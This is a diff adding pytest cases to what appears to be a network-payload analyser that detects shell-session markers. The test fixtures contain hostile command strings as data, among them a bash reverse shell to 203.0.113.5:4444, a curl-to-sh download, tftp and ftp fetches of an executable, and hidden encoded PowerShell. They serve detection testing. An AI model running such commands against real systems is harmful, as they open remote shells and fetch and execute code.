@@ -129,6 +129,30 @@ def test_rfb_handshake_outcomes():
     assert rfb.parse(b"", b"HTTP/1.1 200 OK\r\n") is None
 
 
+SHELL_EXAMPLES = {
+    "windows command prompt banner": b"Microsoft Windows [Version 10.0.19045.2965]",
+    "windows command prompt": b"C:\\Users\\alice>",
+    "ftp script written by echo": b"echo open 203.0.113.5 21> f.txt",
+    "scripted ftp download": b"ftp -n -s:f.txt",
+    "tftp download": b"tftp -i 203.0.113.5 GET x.exe",
+    "cmd /c execution": b"cmd.exe /c whoami",
+    "encoded powershell": b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+    "download piped to a shell": b"curl -fsSL http://203.0.113.5/x | sh",
+    "interactive shell spawned": b"/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    "shell without job control": b"bash: no job control in this shell",
+    "root identity printed": b"uid=0(root) gid=0(root) groups=0(root)",
+    "downloaded file made executable and run": b"chmod +x /tmp/.x; ./x",
+}
+
+
+@pytest.mark.parametrize("name", [m[0] for m in shell.MARKERS])
+def test_every_shell_marker_found_at_the_start_of_any_payload(name):
+    text = SHELL_EXAMPLES[name]
+    data = bytes(range(7, 200)) + text + b"\r\n" + text
+    offs = np.array([0, 193, 193 + len(text), len(data)])
+    assert [(j, n) for j, n, _ in shell.find_markers(data, offs)] == [(1, name), (2, name)]
+
+
 def test_shell_markers_one_per_payload_and_not_across():
     a = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
     b = b"nothing to see"
